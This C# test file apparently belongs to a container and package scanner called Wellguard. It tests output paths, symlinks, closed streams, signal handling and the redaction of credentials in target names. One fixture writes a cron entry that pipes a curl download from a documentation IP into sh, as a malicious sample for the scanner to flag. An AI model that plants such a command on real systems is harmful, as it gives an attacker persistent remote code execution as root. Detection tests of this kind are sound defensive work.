using System.Text.Json;
using Xunit;

namespace Wellguard;

/// <summary>Where bytes come from and go to: links, pipes, devices, closed descriptors.</summary>
public sealed class StreamsTests : IDisposable
{
    private readonly DirectoryInfo folder = Directory.CreateTempSubdirectory("wellguard-streams-");

    public StreamsTests()
    {
        File.WriteAllText(At("clean/etc/motd"), "hello\n");
        File.WriteAllText(At("bad/etc/os-release"), "ID=debian\n");
        File.WriteAllText(At("bad/etc/cron.d/x"), "* * * * * root curl -s http://192.0.2.9/x | sh\n");
    }

    public void Dispose() => folder.Delete(recursive: true);

    private string At(string name)
    {
        var path = Path.Combine(folder.FullName, name);
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        return path;
    }

    private Task<Run> ShellAsync(string script) => Executable.ShellAsync(folder.FullName, script);

    [Theory]
    [InlineData("echo old > real; ln -s real out", "out", "real")]
    [InlineData("ln -s real out", "out", "real")]
    [InlineData("mkdir -p deep/er; ln -s ../real deep/er/link; ln -s deep/er/link out", "out", "deep/real")]
    [InlineData("mkdir -p deep/er; ln -s deep/er short", "short/../real", "deep/real")]
    [InlineData("mkdir -p deep; ln -s deep short; ln -s real deep/out", "short/out", "deep/real")]
    public async Task Output_lands_where_the_shell_would_put_it(string before, string output, string lands)
    {
        var run = await ShellAsync($"{before}; $W scan rootfs:clean --no-cache --format json -o {output}");
        Assert.Equal((0, ""), (run.Code, run.Errors));
        Assert.Equal("wellguard.report/1", JsonDocument.Parse(File.ReadAllText(At(lands))).RootElement.GetProperty("schema").GetString());
        Assert.Equal("", (await ShellAsync("find . -name '*.part'")).Output);
        Assert.Equal("same\n", (await ShellAsync($"[ {output} -ef {lands} ] && echo same")).Output);
    }

    [Theory]
    [InlineData("ln -s b a; ln -s a b; O=a", "its links lead in a circle")]
    [InlineData("O=", "an empty name")]
    [InlineData("O=clean/", "it is a directory")]
    [InlineData("O=new/", "no such directory")]
    public async Task An_output_that_leads_nowhere_is_exit_2(string script, string message)
    {
        var run = await ShellAsync($"{script}; $W scan rootfs:clean --no-cache -o \"$O\"");
        Assert.Equal(2, run.Code);
        Assert.Contains(message, run.Errors, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_replaced_file_keeps_its_permissions() =>
        Assert.Equal("640\n", (await ShellAsync("touch out; chmod 640 out; $W scan rootfs:clean --no-cache -o out; stat -c %a out")).Output);

    [Theory]
    [InlineData("<&-", 1, 0)]
    [InlineData(">&-", 1, 1)]
    [InlineData("2>&-", 1, 0)]
    [InlineData(">&- 2>&-", 1, 0)]
    [InlineData("<&- >&- 2>&-", 1, 0)]
    public async Task A_closed_stream_changes_no_verdict(string closed, int code, int messages)
    {
        var run = await ShellAsync($"$W scan rootfs:bad --no-cache {closed}");
        Assert.Equal(code, run.Code);
        Assert.Equal(messages, run.Errors.Split('\n').Count(line => line == "wellguard: cannot write the results: it is closed"));
    }

    [Theory]
    [InlineData("docker-archive:- <&-", "-: standard input is closed")]
    [InlineData("docker-archive:- < /dev/zero", "-: standard input is a device")]
    [InlineData("docker-archive:- < clean", "-: standard input is a directory")]
    [InlineData("--from - <&-", "--from -: standard input is closed")]
    [InlineData("--from - < /dev/urandom", "--from -: standard input is a device")]
    [InlineData("--indicators /dev/zero clean", "--indicators /dev/zero: it is a device")]
    [InlineData("--policy <(cat /dev/zero) clean", "is larger than 8 MB")]
    public async Task What_has_no_end_is_not_read(string arguments, string message)
    {
        var run = await ShellAsync($"$W scan --no-cache {arguments}");
        Assert.Equal((2, ""), (run.Code, run.Output));
        Assert.Contains(message, run.Errors, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_pipe_is_read_as_text() =>
        Assert.Equal(0, (await ShellAsync("$W scan --no-cache --policy <(echo 'name: t') --from /dev/stdin <<< rootfs:clean")).Code);

    [Theory]
    [InlineData("rootfs:clean -o pipe")]
    [InlineData("rootfs:clean --policy pipe")]
    [InlineData("rootfs:clean --indicators pipe")]
    [InlineData("--from pipe")]
    [InlineData("--from - < <(exec sleep 20 2> /dev/null)")]
    public async Task One_signal_ends_a_wait_for_another_process(string arguments)
    {
        var clock = System.Diagnostics.Stopwatch.StartNew();
        var run = await ShellAsync($"mkfifo pipe; $W scan --no-cache {arguments} & sleep 1; kill -TERM $!; wait $!");
        Assert.Equal((3, "wellguard: interrupted before anything was scanned\n"), (run.Code, run.Errors));
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(15), clock.Elapsed.ToString());
    }

    [Theory]
    [InlineData("HUP")]
    [InlineData("QUIT")]
    [InlineData("TERM")]
    [InlineData("INT")]
    public async Task A_signal_leaves_no_part_of_a_file(string signal)
    {
        var run = await ShellAsync($"$W scan docker-archive:- --no-cache -f json -o out < <(exec sleep 30 2> /dev/null) & sleep 1; ls -a | grep -c part; kill -{signal} $!; wait $!; echo $?; find . -name '*.part'; head -c 2 out");
        Assert.Equal("1\n3\n{\n", run.Output.TrimEnd('\n') + "\n");
    }

    [Fact]
    public async Task A_second_signal_leaves_no_part_of_a_file_either()
    {
        var run = await ShellAsync("$W scan docker-archive:- --no-cache -f json -o out < <(exec sleep 30 2> /dev/null) & sleep 1; kill -TERM $!; sleep 0.3; kill -HUP $!; wait $!; find . -name '*.part'");
        Assert.Equal("", run.Output);
    }

    [Theory]
    [InlineData("json", "INT")]
    [InlineData("jsonl", "TERM")]
    [InlineData("sarif", "HUP")]
    public async Task Among_many_targets_an_interruption_leaves_every_report_that_there_is(string format, string signal)
    {
        var run = await ShellAsync($"$W scan rootfs:clean rootfs:bad docker-archive:- rootfs:clean docker-archive:clean/etc/motd rootfs:bad -j 2 --no-cache -f {format} < <(exec sleep 30 2> /dev/null) & sleep 2; kill -{signal} $!; wait $!");
        Assert.Equal(1, run.Code); // what is blocked stays blocked
        var states = format == "jsonl" ? run.Output.TrimEnd('\n').Split('\n').Select(line => JsonDocument.Parse(line).RootElement).ToList()
            : format == "json" ? [.. JsonDocument.Parse(run.Output).RootElement.EnumerateArray()]
            : [.. JsonDocument.Parse(run.Output).RootElement.GetProperty("runs").EnumerateArray()];
        Assert.Equal(6, states.Count);
        Assert.Contains("interrupted", run.Output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("tree closed", 3, "open: closed: permission denied")]
    [InlineData("diff closed clean.tgz", 3, "open: closed: permission denied")]
    [InlineData("diff clean.tgz closed", 3, "open: closed: permission denied")]
    [InlineData("detonate clean.tgz --against closed", 2, "wellguard: --against closed: permission denied")]
    public async Task A_file_that_may_not_be_read_is_told_as_that(string command, int code, string message)
    {
        Assert.SkipWhen(!File.Exists("/usr/bin/setpriv"), "setpriv is not there");
        var run = await ShellAsync($"mkdir package; echo '{{\"name\":\"a\",\"version\":\"1.0.0\"}}' > package/package.json; tar czf clean.tgz package; echo a > closed; chmod 0 closed; U=; [ $(id -u) != 0 ] || U='setpriv --bounding-set=-dac_override,-dac_read_search'; $U $W {command}");
        Assert.Equal(code, run.Code);
        Assert.Contains(message, run.Output + run.Errors, StringComparison.Ordinal);
        Assert.DoesNotContain("cannot write the results", run.Errors, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("plain")]
    [InlineData("json")]
    [InlineData("sarif")]
    public async Task A_target_that_is_not_opened_shows_no_secret_of_its_name(string format)
    {
        const string Token = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
        var run = await ShellAsync($"$W scan oci:clean:{Token} oci:no/{Token} https://bob:hunter2SuperPw@example.org/a registry:bob:hunter2SuperPw@nohost.invalid/x:1 bob:hunter2SuperPw@nohost/x -f {format} --no-cache");
        Assert.DoesNotContain("16C7e42F", run.Output + run.Errors, StringComparison.Ordinal);
        Assert.DoesNotContain("hunter2", run.Output + run.Errors, StringComparison.Ordinal);
    }
}
